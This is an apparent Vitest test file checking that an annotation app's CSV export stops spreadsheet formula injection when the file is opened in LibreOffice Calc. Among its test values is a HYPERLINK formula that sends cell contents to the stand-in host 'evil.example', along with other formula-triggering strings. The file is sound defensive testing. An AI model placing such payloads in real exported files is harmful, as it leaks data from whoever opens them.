import { describe, expect, it } from 'vitest';
import { createCodingServices } from '../../../electron/core/annotations';
import { exportAnnotationsCsv } from '../../../electron/core/annotations/export';
import { openCsvInLibreOffice } from '../../helpers/libreoffice';
import { useCodingWorkspaces } from '../annotations/helpers/coding-workspace';
import { paragraphsToPassages, TestCorpus } from '../annotations/helpers/seed-corpus';

const openCodingWorkspace = useCodingWorkspaces();

const hostileTitle = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
const hostileNote = '=1+1';
/** Import only takes labels that start with a capital; a bundled or merged record might not. */
const hostileSpeaker = '-2+3';

describe('annotation CSV opened in LibreOffice Calc', () => {
  it('is text in every cell, where the same values written plainly become live formulas', async () => {
    const corpus = new TestCorpus();
    corpus.setDocument('imported-1', hostileTitle, paragraphsToPassages('imported-1', ['@SUM(1+1) said the minutes; Vučić disagreed.'], [hostileSpeaker]));
    const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
    await services.annotations.createFromQuote({ passageId: 'imported-1-p0', quote: '@SUM(1+1) said the minutes', note: hostileNote });

    // The control: the same cells without neutralising. Calc makes formulas of them, so this
    // check would notice if the writer stopped protecting them.
    const plain = `document,note\r\n"${hostileTitle.replace(/"/g, '""')}",${hostileNote}\r\n`;
    const [, plainRow] = openCsvInLibreOffice(plain);
    expect(plainRow![0]!.formula).toMatch(/^of:=HYPERLINK/);
    expect(plainRow![1]).toMatchObject({ formula: 'of:=1+1', text: '2' });

    const sheet = openCsvInLibreOffice(exportAnnotationsCsv(services.annotations.list(), { topics: services.topics.tree(), lookup: corpus }, { bom: true }));
    const [header, row] = sheet as [typeof sheet[0], typeof sheet[0]];
    expect(header.map((cell) => cell.text).slice(0, 4)).toEqual(['document', 'page', 'quote', 'note']);
    for (const cell of [...header, ...row]) expect(cell.formula).toBeUndefined();
    expect(row[0]!.text).toBe(`'${hostileTitle}`);
    expect(row[2]!.text).toBe("'@SUM(1+1) said the minutes");
    expect(row[3]!.text).toBe(`'${hostileNote}`);
    expect(header[8]!.text).toBe('speaker');
    expect(row[8]!.text).toBe(`'${hostileSpeaker}`);
  });
});
